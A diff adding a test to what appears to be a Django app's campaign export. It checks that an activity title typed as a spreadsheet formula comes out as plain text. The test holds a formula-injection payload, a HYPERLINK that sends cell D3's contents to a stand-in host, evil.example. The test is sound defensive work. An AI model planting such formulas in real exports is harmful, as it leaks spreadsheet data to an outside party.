@@ -54,3 +54,16 @@ def test_filters_apply_to_the_export(world, campaign, client_for):
 
 def test_outsider_gets_404(world, campaign, client_for):
     assert client_for(world.other_city_reviewer).get(url(campaign)).status_code == 404
+
+
+def test_a_title_typed_as_a_formula_stays_text(world, campaign, client_for):
+    from campaigns.models import Activity
+
+    hostile = '=HYPERLINK("http://evil.example/?"&D3,"点击查看")'
+    Activity.objects.filter(campaign=campaign).update(title=hostile)
+    response = client_for(world.province_admin).get(url(campaign))
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    titles = [sheet.cell(row=3, column=1) for sheet in book.worksheets[:1]]
+    titles += [book.worksheets[1].cell(row=2, column=1)]
+    for cell in titles:
+        assert (cell.value, cell.data_type) == (hostile, "s")
